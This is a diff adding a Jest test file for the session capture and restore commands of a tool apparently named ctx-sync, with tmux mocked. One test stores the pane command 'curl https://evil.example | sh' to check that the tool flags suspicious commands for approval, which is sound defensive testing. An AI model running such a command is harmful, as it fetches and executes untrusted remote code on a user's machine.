@@ -0,0 +1,241 @@
+import { jest } from '@jest/globals';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+
+declare global {
+  var TEST_DIR: string;
+}
+
+// --- Mock child_process with a fake tmux ---
+const fakeTmux = {
+  installed: true,
+  running: [] as string[],
+  panes: '',
+};
+
+const mockExecFileSync = jest.fn((file: string, args: string[]) => {
+  if (file !== 'tmux' || !fakeTmux.installed) {
+    throw new Error(`spawnSync ${file} ENOENT`);
+  }
+  switch (args[0]) {
+    case '-V':
+      return 'tmux 3.4\n';
+    case 'list-panes':
+      return fakeTmux.panes;
+    case 'has-session':
+      if (!fakeTmux.running.includes((args[2] ?? '').replace(/^=/, ''))) {
+        throw new Error(`can't find session: ${args[2] ?? ''}`);
+      }
+      return '';
+    case 'display-message':
+      return 'scratch\n';
+    default:
+      return '';
+  }
+});
+
+jest.unstable_mockModule('node:child_process', () => ({
+  execFileSync: mockExecFileSync,
+  execSync: jest.fn(),
+  spawn: jest.fn(),
+}));
+
+const { generateKey } = await import('../../src/core/encryption.js');
+const { writeState } = await import('../../src/core/state-manager.js');
+const { loadSessions, saveSession } = await import('../../src/core/session-handler.js');
+const { formatCommandsForDisplay } = await import('../../src/core/command-validator.js');
+const { collectRestoreCommands } = await import('../../src/commands/restore.js');
+const { executeSessionCapture } = await import('../../src/commands/session.js');
+
+// ─── Helpers ──────────────────────────────────────────────────────────────
+
+const ORIGINAL_TMUX = process.env['TMUX'];
+
+async function setupTestEnv() {
+  const testHome = path.join(
+    TEST_DIR,
+    `session-cmd-${Date.now()}-${Math.random().toString(36).slice(2, 8)}`,
+  );
+  const configDir = path.join(testHome, '.config', 'ctx-sync');
+  const syncDir = path.join(testHome, '.context-sync');
+  const projectPath = path.join(testHome, 'projects', 'my-app');
+
+  fs.mkdirSync(configDir, { recursive: true });
+  fs.mkdirSync(syncDir, { recursive: true });
+  fs.mkdirSync(path.join(projectPath, 'src'), { recursive: true });
+
+  process.env['CTX_SYNC_HOME'] = testHome;
+
+  const { publicKey, privateKey } = await generateKey();
+  fs.writeFileSync(path.join(configDir, 'key.txt'), privateKey, {
+    mode: 0o600,
+  });
+
+  await writeState(
+    syncDir,
+    {
+      machine: { id: 'test', hostname: 'test-host' },
+      projects: [
+        {
+          id: 'app-id',
+          name: 'my-app',
+          path: projectPath,
+          git: { branch: 'main', remote: '', hasUncommitted: false, stashCount: 0 },
+          lastAccessed: new Date().toISOString(),
+        },
+      ],
+    },
+    publicKey,
+    'state',
+  );
+
+  return { testHome, syncDir, projectPath, publicKey, privateKey };
+}
+
+function paneRows(session: string, projectPath: string): string {
+  return [
+    [session, '0', 'editor', 'tiled', '0', '1', path.join(projectPath, 'src'), 'nvim'],
+    [session, '1', 'shell', 'tiled', '0', '1', projectPath, 'zsh'],
+  ]
+    .map((fields) => fields.join('\t'))
+    .join('\n');
+}
+
+beforeEach(() => {
+  Object.assign(fakeTmux, { installed: true, running: [], panes: '' });
+  delete process.env['TMUX'];
+});
+
+afterAll(() => {
+  if (ORIGINAL_TMUX !== undefined) {
+    process.env['TMUX'] = ORIGINAL_TMUX;
+  }
+});
+
+// ─── Tests ────────────────────────────────────────────────────────────────
+
+describe('Session Command', () => {
+  describe('executeSessionCapture()', () => {
+    it('should capture the session named after the project', async () => {
+      const { syncDir, projectPath, privateKey } = await setupTestEnv();
+      fakeTmux.panes = paneRows('my-app', projectPath) + '\n' + paneRows('scratch', '/tmp');
+
+      const result = await executeSessionCapture('my-app', { noSync: true });
+
+      expect(result.project).toBe('my-app');
+      expect(result.session.name).toBe('my-app');
+      expect(result.session.projectPath).toBe(projectPath);
+      expect(result.paneCount).toBe(2);
+
+      const sessions = await loadSessions(syncDir, privateKey);
+      expect(sessions['my-app']!.windows.map((w) => w.name)).toEqual(['editor', 'shell']);
+    });
+
+    it('should capture the named session with --session', async () => {
+      const { projectPath } = await setupTestEnv();
+      fakeTmux.panes = paneRows('my-app', projectPath) + '\n' + paneRows('scratch', '/tmp');
+
+      const result = await executeSessionCapture('my-app', { session: 'scratch', noSync: true });
+
+      expect(result.session.name).toBe('scratch');
+    });
+
+    it('should fall back to the current tmux session', async () => {
+      const { projectPath } = await setupTestEnv();
+      fakeTmux.panes = paneRows('scratch', projectPath);
+      process.env['TMUX'] = '/tmp/tmux-1000/default,123,0';
+
+      const result = await executeSessionCapture('my-app', { noSync: true });
+
+      expect(result.session.name).toBe('scratch');
+    });
+
+    it('should suggest --session when no session can be picked', async () => {
+      const { projectPath } = await setupTestEnv();
+      fakeTmux.panes = paneRows('scratch', projectPath);
+
+      await expect(executeSessionCapture('my-app', { noSync: true })).rejects.toThrow(
+        '--session <name>',
+      );
+    });
+
+    it('should reject an untracked project', async () => {
+      await setupTestEnv();
+
+      await expect(executeSessionCapture('nope', { noSync: true })).rejects.toThrow(
+        'Project "nope" not found',
+      );
+    });
+  });
+
+  describe('collectRestoreCommands() with a tmux session', () => {
+    async function setupWithSession(overrides: { command?: string } = {}) {
+      const env = await setupTestEnv();
+      await saveSession(
+        env.syncDir,
+        'my-app',
+        {
+          name: 'my-app',
+          projectPath: '/Users/other/code/my-app',
+          capturedAt: new Date().toISOString(),
+          windows: [
+            {
+              name: 'editor',
+              layout: 'tiled',
+              panes: [
+                { cwd: '/Users/other/code/my-app/src', command: overrides.command ?? 'nvim', active: true },
+              ],
+            },
+          ],
+        },
+        env.publicKey,
+        env.privateKey,
+      );
+      return env;
+    }
+
+    it('should recreate the session with pane cwds remapped to the local path', async () => {
+      const { syncDir, privateKey, projectPath } = await setupWithSession();
+
+      const commands = await collectRestoreCommands('my-app', syncDir, privateKey, projectPath);
+
+      expect(commands).toHaveLength(2);
+      expect(commands[0]!.command).toContain(`-c '${path.join(projectPath, 'src')}'`);
+      expect(commands[1]).toMatchObject({
+        command: 'nvim',
+        cwd: path.join(projectPath, 'src'),
+        tmuxPane: { session: 'my-app', window: 0, pane: 0 },
+      });
+    });
+
+    it('should skip the session if it is already running', async () => {
+      const { syncDir, privateKey, projectPath } = await setupWithSession();
+      fakeTmux.running = ['my-app'];
+
+      const commands = await collectRestoreCommands('my-app', syncDir, privateKey, projectPath);
+
+      expect(commands).toEqual([]);
+    });
+
+    it('should skip the session if tmux is not installed', async () => {
+      const { syncDir, privateKey, projectPath } = await setupWithSession();
+      fakeTmux.installed = false;
+
+      const commands = await collectRestoreCommands('my-app', syncDir, privateKey, projectPath);
+
+      expect(commands).toEqual([]);
+    });
+
+    it('should flag suspicious pane commands for approval', async () => {
+      const { syncDir, privateKey, projectPath } = await setupWithSession({
+        command: 'curl https://evil.example | sh',
+      });
+
+      const commands = await collectRestoreCommands('my-app', syncDir, privateKey, projectPath);
+      const display = formatCommandsForDisplay(commands);
+
+      expect(display).toContain('Pane: my-app, window 1, pane 1');
+      expect(display).toContain('WARNING');
+    });
+  });
+});